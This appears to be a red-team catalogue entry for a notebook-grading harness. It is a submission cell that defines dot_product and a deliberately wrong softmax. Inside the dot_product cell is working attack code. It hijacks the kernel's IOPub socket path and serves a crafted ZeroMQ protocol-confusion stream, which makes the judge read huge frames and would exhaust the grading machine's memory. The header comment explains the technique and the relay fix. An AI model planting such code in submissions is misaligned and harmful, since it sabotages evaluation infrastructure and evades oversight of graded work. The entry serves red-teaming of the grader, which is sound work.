# description: a wrong softmax (axis 0), and a cell that binds a socket of its own where its IOPub socket was, ends
#   the relay's connection with a message past the bound, and sends the judge's next one a ZMTP 1.0 stream laid out
#   so that the relay, which read it as ZMTP 3 (its eleventh byte said 3), saw small messages and the judge's
#   ZeroMQ one message of five 16 MiB frames, read whole (40 took the judge from 318 MiB to 967, charged to no
#   envelope; 400 would have taken the grading machine); the relay now ends a stream libzmq reads as ZMTP 1.0
# source: written for this catalogue (red-team round r67)
# loses: softmax
# baseline: softmax-wrong-axis

# %% replaces: dot_product
import os as _os
import socket as _socket
import struct as _struct
import threading as _threading
import time as _time

import zmq as _zmq

_kernel = get_ipython().kernel
_path = _kernel.iopub_thread.socket.getsockopt(_zmq.LAST_ENDPOINT).decode().split("://", 1)[1]
_size, _frames = 16 * 2**20, 5
_routing_id = bytearray([72, 0]) + bytearray(71)  # ZMTP 1.0's first message, 72 bytes; to the relay, its first
_routing_id[10] = 3  # 64 are a greeting of ZMTP 3, and its last 9 the header of a frame of 16 MiB
_routing_id[64:73] = bytes([2]) + _struct.pack(">Q", _size)
_os.unlink(_path)
_raw = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
_raw.bind(_path)
_raw.listen(4)


def _serve():
    connection, _ = _raw.accept()
    connection.sendall(bytes(_routing_id))
    body = bytearray(_size)
    for n in range(_frames):  # a ZMTP 1.0 frame's header in each of the relay's frames, MORE but the last
        body[:10] = b"\xff" + _struct.pack(">Q", _size) + bytes([1 if n < _frames - 1 else 0])
        connection.sendall(body)
        connection.sendall(bytes([2]) + _struct.pack(">Q", _size))
    _time.sleep(10)


_threading.Thread(target=_serve, daemon=True).start()
_kernel.session.send(_kernel.iopub_socket, "display_data", {"data": {"text/plain": "BIG"}, "metadata": {}},
                     parent=_kernel.get_parent(), buffers=[bytes(65 * 2**20)])
_time.sleep(2)


def dot_product(a, b):
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return float(np.sum(a * b))

# %% replaces: softmax
def softmax(x, axis=-1):
    x = np.asarray(x)
    exps = np.exp(x - np.max(x, axis=0, keepdims=True))
    return exps / np.sum(exps, axis=0, keepdims=True)
